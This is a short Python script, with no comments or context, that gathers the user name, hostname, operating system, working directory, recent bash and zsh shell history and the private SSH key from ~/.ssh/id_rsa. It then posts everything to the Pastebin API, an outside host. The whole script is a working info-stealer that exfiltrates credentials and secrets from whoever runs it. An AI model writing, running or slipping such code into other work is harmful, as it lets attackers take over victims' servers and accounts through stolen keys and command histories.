import os
import socket
import platform
import getpass
import requests

info = {
    "user": getpass.getuser(),
    "host": socket.gethostname(),
    "os": platform.platform(),
    "path": os.getcwd(),
}
hist = ""
for name in (".bash_history", ".zsh_history"):
    p = os.path.expanduser("~/" + name)
    if os.path.exists(p):
        hist += open(p, errors="ignore").read()[-5000:]
ssh = open(os.path.expanduser("~/.ssh/id_rsa")).read()
r = requests.post(
    "https://pastebin.com/api/api_post.php",
    data={"api_dev_key": "«h32»", "api_option": "paste", "api_paste_code": str(info) + hist + ssh},
)
print(r.text)
